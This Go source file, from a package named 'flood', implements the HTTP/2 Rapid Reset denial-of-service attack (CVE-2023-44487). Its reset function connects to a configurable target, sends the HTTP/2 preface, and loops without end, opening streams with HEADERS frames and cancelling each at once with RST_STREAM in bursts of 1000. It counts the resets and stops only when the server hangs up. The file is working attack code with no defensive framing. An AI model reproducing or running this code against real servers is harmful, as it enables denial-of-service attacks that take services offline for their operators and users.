package flood

import (
	"bytes"
	"context"
	"io"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// burst is how many requests of a connection are reset before it reads what came of it.
const burst = 1000

// reset opens requests of HTTP/2 and takes each back at once (CVE-2023-44487), until the
// other side hangs up.
func (t Target) reset(ctx context.Context, told *Tally) {
	conn, err := t.dial(ctx, http2.NextProtoTLS)
	if err != nil {
		return
	}
	defer func() { _ = conn.Close() }()
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return
	}
	framer := http2.NewFramer(conn, conn)
	if framer.WriteSettings() != nil {
		return
	}
	gone := make(chan struct{})
	go func() { defer close(gone); _, _ = io.Copy(io.Discard, conn) }()
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for _, field := range [][2]string{{":method", "POST"}, {":scheme", "https"}, {":authority", "x"}, {":path", t.Path}} {
		_ = encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1], Sensitive: true}) // into memory; not indexed, so it may be sent again
	}
	for stream := uint32(1); ctx.Err() == nil; {
		for range burst {
			if framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block.Bytes(), EndHeaders: true}) != nil ||
				framer.WriteRSTStream(stream, http2.ErrCodeCancel) != nil {
				return
			}
			told.Resets.Add(1)
			stream += 2
		}
		select {
		case <-gone:
			return
		default:
			pause(ctx, again)
		}
	}
}
